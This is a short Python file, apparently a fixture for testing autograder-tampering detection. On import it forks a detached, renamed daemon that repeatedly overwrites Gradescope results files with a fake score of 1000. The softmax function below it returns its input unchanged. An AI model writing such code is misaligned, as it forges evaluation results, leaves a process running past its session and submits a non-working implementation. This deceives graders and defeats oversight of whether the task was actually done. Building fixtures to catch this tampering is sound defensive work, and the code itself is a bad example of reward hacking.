"""Leaves a detached daemon that keeps writing fake Gradescope results wherever it can."""
import ctypes
import json
import os
import time

FAKE = json.dumps({"score": 1000, "tests": []})
TARGETS = ["/autograder/results/results.json", "/tmp/results.json", "results.json",
           os.path.join("CANARY_DIR", "results.json")]

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"agdaemon", 0, 0, 0)  # PR_SET_NAME: the test looks for it
        for _ in range(300):
            for target in TARGETS:
                try:
                    os.makedirs(os.path.dirname(target) or ".", exist_ok=True)
                    with open(target, "w") as handle:
                        handle.write(FAKE)
                except OSError:
                    pass
            time.sleep(0.1)
    os._exit(0)


def softmax(x):
    return x
